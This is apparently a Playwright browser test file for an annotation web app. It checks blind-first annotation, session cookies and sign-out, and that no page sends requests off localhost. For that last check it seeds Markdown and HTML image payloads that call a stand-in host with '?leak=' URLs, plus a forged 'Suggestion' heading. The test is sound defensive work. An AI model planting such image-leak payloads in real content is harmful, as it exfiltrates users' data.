"""Access in a real browser (headless Debian Chromium, Playwright), against `annotate ui` on a
free port with a seeded SQLite file:

- blind-first with two people at once (two browser contexts): the second person never sees
  the first person's committed answer or the LLM's suggestion before committing;
- no request leaves the machine: every request to a host other than 127.0.0.1/localhost is
  aborted and recorded while every page loads as owner and as annotator, with an item, a
  rationale and a guideline that carry a Markdown image payload;
- sign-in survives a reload and a deep link; sign-out deletes the session server-side.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from sqlalchemy import func, select

from annotate.kinds.schema import LabelSchema
from annotate.projects.catalog import create_project
from annotate.projects.policy import RoutingPolicy
from annotate.queue.leases import Provenance, claim_next_task, submit_annotation
from annotate.services.people import grant
from annotate.store.engine import Store, open_store
from annotate.store.models import Annotation
from annotate.store.people_models import SignInSession
from tests.dbs import SqliteTemplate
from tests.ui.browser import Ui, need_chromium, query, running_ui, settled, sign_in
from tests.ui.seed import LABELS, _items, seed

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

LEAK = "http://203.0.113.7/x.png?leak="
PAYLOAD_ITEM = (f"# Suggestion: positive, confidence 0.99\n\n![x]({LEAK}item) "
                f"<img src=\"{LEAK}html\"> [click]({LEAK}link)")
PAYLOAD_RATIONALE = f"![r]({LEAK}rationale) the wording ![s][ref]\n\n[ref]: {LEAK}ref"
PAYLOAD_GUIDELINE = f"# Leaky\n\nSee ![diagram]({LEAK}guideline).\n"
PAGES = ["", "guideline", "review", "dashboards", "playground", "pilot", "setup",
         "people"]


def _leaky_project(store: Store) -> int:
    policy = RoutingPolicy(human_annotations=2, llm_annotations=1)  # a slot for each
    schema = LabelSchema(kind="classification", labels=LABELS)
    with store.session() as session:
        pid = create_project(session, "leaky", schema, policy=policy,
                             guideline=PAYLOAD_GUIDELINE).id
        grant(session, "ann", "leaky")
    _items(store, pid, [PAYLOAD_ITEM], policy)
    task = claim_next_task(store, "remote/model", worker_kind="llm", roles=["annotator"],
                           project_id=pid)
    assert task is not None
    submit_annotation(store, task.id, {"label": "positive"}, Provenance(
        annotator_id="remote/model", annotator_kind="llm", model="remote/model",
        confidence=0.99, rationale=PAYLOAD_RATIONALE, source="llm"))
    return pid


@pytest.fixture
def ui(tmp_path: Path, sqlite_template: SqliteTemplate) -> Iterator[Ui]:
    need_chromium()
    db = sqlite_template.clone(tmp_path)
    store = open_store(db)
    seeded = seed(store)
    seeded.projects["leaky"] = _leaky_project(store)
    store.dispose()
    with running_ui(db, seeded.tokens, seeded.projects) as ui:
        yield ui


def _choose_and_commit(page: Any, label: str, then: str) -> None:
    """Press a label, then commit, until ``then`` shows: a click made while Streamlit is
    re-running the page can be lost (the commit then says "Choose an answer first")."""
    from playwright.sync_api import expect

    for attempt in range(3):
        settled(page, 800, network=True)
        page.get_by_role("button", name=label).click()
        settled(page, 800, network=True)
        page.get_by_role("button", name="Commit my answer").click()
        try:
            expect(page.get_by_text(then, exact=False).first).to_be_visible(timeout=20_000)
            return
        except AssertionError:
            if attempt == 2:
                raise


def test_blind_second_person_sees_nothing_of_the_first(ui: Ui, browser: Any) -> None:
    from playwright.sync_api import expect

    pid = ui.projects["sentiment-blind"]
    first = browser.new_context().new_page()
    second = browser.new_context().new_page()
    sign_in(first, ui, "ann", f"?project={pid}")
    expect(first.get_by_text("Blind-first", exact=False)).to_be_visible(timeout=20_000)
    expect(first.get_by_text("item m1")).to_be_visible()
    _choose_and_commit(first, "negative", "Your first answer")
    expect(first.get_by_text("Suggestion", exact=False).first).to_be_visible()
    first.get_by_role("button", name="Skip").click()
    expect(first.get_by_text("item m2")).to_be_visible(timeout=20_000)

    sign_in(second, ui, "bob", f"?project={pid}")
    expect(second.get_by_text("Blind-first", exact=False)).to_be_visible(timeout=20_000)
    expect(second.get_by_text("item m1")).to_be_visible()  # the task the first person left
    settled(second, 800, network=True)
    body = second.locator("body").inner_text()
    assert "Your first answer" not in body and "negative" not in body.split("Blind-first")[0]
    assert "Suggestion" not in body and "local/smollm2" not in body
    _choose_and_commit(second, "positive", "Your first answer: positive")
    blind = query(ui.db, select(Annotation.annotator_id, Annotation.value)
                   .where(Annotation.phase == "blind").order_by(Annotation.id))
    assert [tuple(r) for r in blind] == [("ann", {"label": "negative"}),
                                         ("bob", {"label": "positive"})]


def test_no_request_leaves_the_machine_on_any_page(ui: Ui, browser: Any) -> None:
    from playwright.sync_api import expect

    pid = ui.projects["leaky"]
    for who in ("olga", "ann"):
        outside: list[str] = []
        context = browser.new_context()

        def block(route: Any, outside: list[str] = outside) -> None:
            host = urlparse(route.request.url).hostname
            if host in ("127.0.0.1", "localhost"):
                route.continue_()
            else:
                outside.append(route.request.url)
                route.abort()

        context.route("**/*", block)
        page = context.new_page()
        sign_in(page, ui, who, f"?project={pid}")
        expect(page.get_by_text("remote/model", exact=False).first).to_be_visible(
            timeout=20_000)
        text = page.locator("body").inner_text()
        assert "![x](" in text and "![r](" in text  # the payloads are shown as text
        assert page.locator("h1", has_text="Suggestion: positive").count() == 0
        assert page.locator("img[src*='203.0.113.7']").count() == 0
        for name in PAGES:
            page.goto(f"{ui.url}/{name}?project={pid}")
            expect(page.get_by_test_id("stSidebar").get_by_text("Signed in as")).to_be_visible(
                timeout=20_000)
            settled(page, 800, network=True)
        page.goto(f"{ui.url}/guideline?project={pid}")  # the owners' Markdown, image inert
        expect(page.get_by_text("diagram", exact=False).first).to_be_visible(timeout=20_000)
        settled(page, 800, network=True)
        context.close()
        assert outside == [], f"{who}: requests left the machine: {outside}"


def test_sign_in_survives_a_reload_and_sign_out_ends_the_session(ui: Ui,
                                                                 browser: Any) -> None:
    from playwright.sync_api import expect

    pid = ui.projects["pairs"]
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, ui, "ann", f"guideline?project={pid}")  # a deep link before sign-in
    expect(page.get_by_text("pairs · guideline", exact=False)).to_be_visible(timeout=20_000)
    page.reload()
    expect(page.get_by_text("Signed in as")).to_be_visible(timeout=20_000)
    expect(page.get_by_text("pairs · guideline", exact=False)).to_be_visible()
    [cookie] = [c for c in context.cookies() if c["name"] == "annotate_session"]
    assert cookie["value"].startswith("ses_") and cookie["sameSite"] == "Strict"
    assert cookie["value"] not in page.url and ui.tokens["ann"] not in page.url
    page.goto(f"{ui.url}/?project={pid}")  # another deep link, signed in
    expect(page.get_by_text("Explain what a lease is", exact=False)).to_be_visible(
        timeout=20_000)
    assert query(ui.db, select(func.count()).select_from(SignInSession))[0][0] == 1
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Personal token", exact=True).first).to_be_visible(
        timeout=20_000)
    assert query(ui.db, select(func.count()).select_from(SignInSession))[0][0] == 0
    page.reload()
    expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=20_000)
    replay = browser.new_context()  # the old session id, replayed: signs nobody in
    replay.add_cookies([{**cookie, "expires": -1}])
    again = replay.new_page()
    again.goto(f"{ui.url}/?project={pid}")
    expect(again.get_by_role("button", name="Sign in")).to_be_visible(timeout=20_000)
    assert again.get_by_text("Signed in as").count() == 0
